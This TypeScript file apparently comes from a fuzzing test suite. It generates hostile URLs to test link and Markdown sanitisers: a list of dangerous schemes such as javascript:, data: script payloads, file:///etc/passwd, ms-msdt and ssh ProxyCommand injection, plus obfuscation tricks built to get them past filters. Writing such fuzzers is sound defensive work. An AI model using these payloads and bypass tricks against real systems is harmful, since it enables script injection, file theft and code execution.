import type { Random } from '../../torture/random.ts'

/** Addresses that run a script, open a file, start a program or reach another computer if a system is asked to open them. */
const dangerous = [
  'javascript:attack()',
  'javascript://attack.example/%0Aattack()',
  'javascript:https://attack.example/',
  'vbscript:attack()',
  'livescript:attack()',
  'mocha:attack()',
  'data:text/html,<script>attack()</script>',
  'data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg/onload=attack()>',
  'blob:https://attack.example/x',
  'filesystem:https://attack.example/temporary/x.html',
  'view-source:https://attack.example/',
  'about:blank',
  'about:srcdoc',
  'chrome://settings/',
  'devtools://devtools/bundled/x.html',
  'app://lanyard/',
  'trip://x/y',
  'photo:x',
  'file:///etc/passwd',
  'file://attack.example/share/x.lnk',
  'file:c:/windows/system32/calc.exe',
  'smb://attack.example/share',
  'nfs://attack.example/x',
  'afp://attack.example/x',
  'sftp://attack.example/x',
  'ftp://attack.example/x',
  'ssh://-oProxyCommand=calc/x',
  'telnet://attack.example',
  'ldap://attack.example/x',
  'jar:https://attack.example/x.jar!/',
  'ms-msdt:/id PCWDiagnostic /skip force',
  'ms-word:ofe|u|https://attack.example/x.docx',
  'ms-excel:nft|u|https://attack.example/x.xlsx',
  'ms-officecmd:{"id":3}',
  'ms-search:query=x&crumb=location:\\\\attack.example\\x',
  'ms-settings:privacy',
  'search-ms:query=x&crumb=location:%5C%5Cattack.example%5Cx',
  'ms-appinstaller:?source=https://attack.example/x.msix',
  'shell:startup',
  'steam://run/1',
  'vscode://attack/x',
  'slack://open',
  'zoommtg://attack.example/join',
  'itms-services://?action=download-manifest&url=https://attack.example/x',
  'intent://x#Intent;scheme=https;end',
  'x-apple-helpbasic://attack.example/x',
  'help:openbook=x',
  'res://x.dll/x',
  'mk:@MSITStore:\\\\attack.example\\x.chm::/x.htm',
  'hcp://x',
  'cmd:calc',
  'mailto+x:a@b',
  'https+x://attack.example/',
  'xhttps://attack.example/',
  'jabber:x@attack.example',
  'magnet:?xt=x',
]

/** Ways to write an address that readers of addresses, HTML or Markdown see through and filters do not. */
const tricks: readonly ((address: string, random: Random) => string)[] = [
  (address, random) =>
    Array.from(address, (sign) => (random.chance(0.5) ? sign.toUpperCase() : sign.toLowerCase())).join(''),
  (address, random) => insert(address, random, '\t'),
  (address, random) => insert(address, random, '\n'),
  (address, random) => insert(address, random, '\r\n'),
  (address, random) => insert(address, random, '\u0000'),
  (address, random) => insert(address, random, '\u200b'),
  (address, random) => insert(address, random, '\u00ad'),
  (address, random) => insert(address, random, '\\'),
  (address, random) => insert(address, random, '%0a'),
  (address) => ` ${address}`,
  (address) => `\u0001${address}`,
  (address) => `\u00a0${address}`,
  (address) => `\ufeff${address}`,
  (address) => `\u202e${address}`,
  (address) => `\u001f\u0000 ${address} \u0000`,
  (address) => address.replace(':', '&colon;'),
  (address) => address.replace(':', '&#58;'),
  (address) => address.replace(':', '&#x3A'),
  (address) => address.replace(':', '%3A'),
  (address) => address.replace(':', '%253A'),
  (address) => address.replace(':', '：'),
  (address) => address.replace(':', ' :'),
  (address) => address.replace(':', ':\u0009'),
  (address) => address.replace(/^./, (sign) => `&#${sign.charCodeAt(0)};`),
  (address) => address.replace(/^./, (sign) => `&#x${sign.charCodeAt(0).toString(16)}`),
  (address) => address.replace(/^./, (sign) => `%${sign.charCodeAt(0).toString(16)}`),
  (address) => address.replace(/^./, (sign) => `\\u00${sign.charCodeAt(0).toString(16)}`),
  (address) => Array.from(address, (sign) => `&#${sign.codePointAt(0)};`).join(''),
  (address) => Array.from(address, (sign) => `&#0000${sign.codePointAt(0)}`).join(''),
  (address) => address.replace('s', 'ſ'),
  (address) => address.replace('i', 'ı'),
  (address) => address.replace('k', '\u212a'),
  (address) => address.replaceAll('/', '\\'),
  (address) => `${address}#https://example.org/`,
  (address) => `${address}?https://example.org/`,
  (address) => `${address}\nhttps://example.org/`,
  (address) => `url:${address}`,
  (address) => `feed:${address}`,
  (address) => `//${address}`,
]

function insert(address: string, random: Random, sign: string): string {
  // Mostly within the scheme, where it matters.
  const at = 1 + random.below(Math.min(address.length, random.chance(0.8) ? 10 : address.length))
  return address.slice(0, at) + sign + address.slice(at)
}

/** Dangerous addresses: first as they are, then each written in one to three ways that could get it past a filter. */
export function* hostileAddresses(random: Random): Generator<string, never> {
  for (const address of dangerous) yield address
  for (;;) {
    let address = random.pick(dangerous)
    for (let times = 1 + random.below(3); times > 0; times--) address = random.pick(tricks)(address, random)
    yield address
  }
}
